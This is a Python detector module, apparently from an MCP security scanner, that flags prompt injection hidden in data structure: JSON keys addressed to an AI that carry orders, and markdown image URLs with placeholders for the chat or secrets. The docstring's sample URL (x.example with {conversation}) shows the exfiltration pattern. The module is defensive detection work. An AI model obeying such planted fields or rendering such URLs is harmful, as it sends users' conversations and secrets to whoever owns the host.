"""Result-only injection shapes carried by structure: a data field named for the AI, an image URL that smuggles.

Two carriers say who the text is for without any sentence addressing the model:
  - a JSON / dict key that names the AI and an instruction ("note_for_ai", "llm_hint",
    "x-assistant-task", "ai_directive") whose value asks for something: a record of data has no
    reason to hold a field of orders for the model reading it. (An LLM app's own config, with
    "temperature" / "max_tokens" / "messages" keys beside it, is a prompt, not a planted order.)
  - a markdown image or link whose URL query holds a placeholder for the conversation, the
    user's data or a secret (`![](https://x.example/p.png?q={conversation})`): rendering it
    sends that data to whoever owns the host.
`NEEDED` lists a pattern each finding needs (for the judge's fast path, `injection_quick`).
"""

from __future__ import annotations

from aegis_mcp.engine import regex
from aegis_mcp.engine.detectors import injection_address as ADDR
from aegis_mcp.engine.model import RiskLevel

CRIT, HIGH = RiskLevel.CRITICAL, RiskLevel.HIGH

# a quoted key with an AI's name in it, followed by a quoted (or list-of-quoted) value: '"llm_hint": "Agents ...'
KEY = regex.compile(
    r"[\"']((?:[\w$.\- ]{0,40}[_\-.$ ])?(?:ai|llm|gpt|copilot|claude|gemini|prompt|system|assistant|agent|model|bot)[\w$.\- ]{0,40})[\"']\s*:\s*\[?\s*[\"']"
)
# the key names an AI: unambiguous names anywhere, the job-words ("agent", "assistant", "model",
# "bot") only beside an instruction word of their own (an "agent_notes" field is a person's notes)
_AI_STRONG = regex.compile(r"(?:^|[_\-.$ ])(?:ai|llm|gpt|chatgpt|copilot|claude|gemini)|system[_\- ]?prompt")
_AI_JOB = regex.compile(r"(?:^|[_\-.$ ])(?:assistants?|agents?|models?|bots?)")
_ORDER_WORD = regex.compile(r"instruction|directive|hint|task|todo|addendum|override|command|guidance|policy|rules|context|prompt|only|action|request|directions")
_SOFT_WORD = regex.compile(r"note|message|msg|memo|comment")
_ADDRESSEE = regex.compile(r"(?:^|[_\-.$ ])(?:for|to)[_\-.$ ](?:the[_\-.$ ])?(?:ai|llm|gpt|assistants?|agents?|models?|bots?|copilot|claude)s?(?:$|[_\-.$ ])")
# an LLM application's own configuration: its prompts are its settings, not planted orders
_LLM_CONFIG = regex.compile(r"[\"'](?:temperature|max_tokens|max_output_tokens|top_p|top_k|stop_sequences|messages|frequency_penalty|presence_penalty)[\"']\s*:")

# ![alt](https://host/path?...) or [text](https://...?...): a URL with a query, then a placeholder in it
MD_URL = regex.compile(r"!?\[[^\]\n]{0,200}\]\(\s*<?https?://[^\s()<>]+[?&#][^)\n]{0,400}\)")
# a placeholder for the chat, the user's data or a secret: "={conversation}", "=<the user's question>",
# "=$API_KEY", "=INSERT_KEY_HERE" ("?tab=history", "?q=...", "<your-api-key>" in API docs are not)
_DATA_WORD = r"(?:conversation|chat|history|user|message|question|secret|token|api_?key|password|passwd|email|address|memory|prompt|everything)"
_PLACEHOLDER = regex.compile(
    r"=\s*(?:\{\{?[^}\n]{0,60}" + _DATA_WORD + r"[^}\n]{0,60}\}\}?|<[^>\n]{0,80}" + _DATA_WORD + r"[^>\n]{0,80}>|\$\{?[a-z_]{3,}\}?|"
    r"[a-z_]*(?:conversation|chat_?history|user_?(?:email|name|data|question|message|input|info)|last_?message|"
    r"secret|api_?key|password|passwd|insert[a-z_]*here)[a-z_]*(?:[&#)]|$))"
)
_READERS_OWN = regex.compile(r"=\s*[{<][^}>\n]{0,20}\byour\b")

# what each finding needs in the lower-cased text (the fast path's list)
NEEDED: list[tuple[str, str]] = [("ai_key", KEY.pattern), ("md_url", MD_URL.pattern)]


def llm_config(low: str) -> bool:
    """The text is an LLM application's settings (sampling parameters or a message list beside its prompts)."""
    return _LLM_CONFIG.search(low) is not None


def _ai_key(key: str) -> bool:
    """The key names an AI and an order for it ("llm_hint", "note_for_ai"), not a record the AI made
    ("ai_summary") nor a person's notes ("agent_notes")."""
    order = _ORDER_WORD.search(key) is not None
    soft = _SOFT_WORD.search(key) is not None
    if _ADDRESSEE.search(key) is not None or _AI_STRONG.search(key) is not None:
        return order or soft
    return order and _AI_JOB.search(key) is not None


def _value(low: str, start: int) -> str:
    """The quoted value that starts at `start` (up to its closing quote, bounded)."""
    q = low[start - 1] if start > 0 else '"'
    end = start
    limit = min(len(low), start + 600)
    while end < limit:
        c = low[end]
        if c == q and low[end - 1] != "\\":
            break
        end += 1
    return low[start:end]


def ai_field(low: str) -> tuple[RiskLevel, str, str] | None:
    """A field named for the AI whose value asks for something (a request at a clause start)."""
    if '"' not in low and "'" not in low:
        return None  # no quoted key at all
    config: bool | None = None
    for m in KEY.finditer(low):
        key = m.group(1).strip()
        if not _ai_key(key):
            continue
        if config is None:
            config = _LLM_CONFIG.search(low) is not None
        if config:
            return None
        value = _value(low, m.end())
        ask = next(ADDR.ASK.finditer(value[:400]), None)
        if ask is None:
            continue
        sev = CRIT if ADDR.consequence(value[ask.start() : ask.start() + 240]) else HIGH
        return sev, "ai_field", f"a data field named for the AI ('{key[:40]}') asks: '{value[ask.start():ask.start() + 80].strip()}'"
    return None


def image_exfil(low: str) -> tuple[RiskLevel, str, str] | None:
    """A markdown image/link whose URL carries a placeholder for the user's data or the chat."""
    if "](" not in low:
        return None  # no markdown link or image
    for m in MD_URL.finditer(low):
        url = m.group(0)
        if _PLACEHOLDER.search(url) is None or _READERS_OWN.search(url) is not None:
            continue  # no placeholder, or the docs' own "<your-api-key>"
        sev = CRIT if url.startswith("!") else HIGH  # an image loads by itself; a link needs a click
        return sev, "markdown_exfil", f"a markdown {'image' if sev is CRIT else 'link'} whose URL carries a placeholder for data: '{url[:100]}'"
    return None
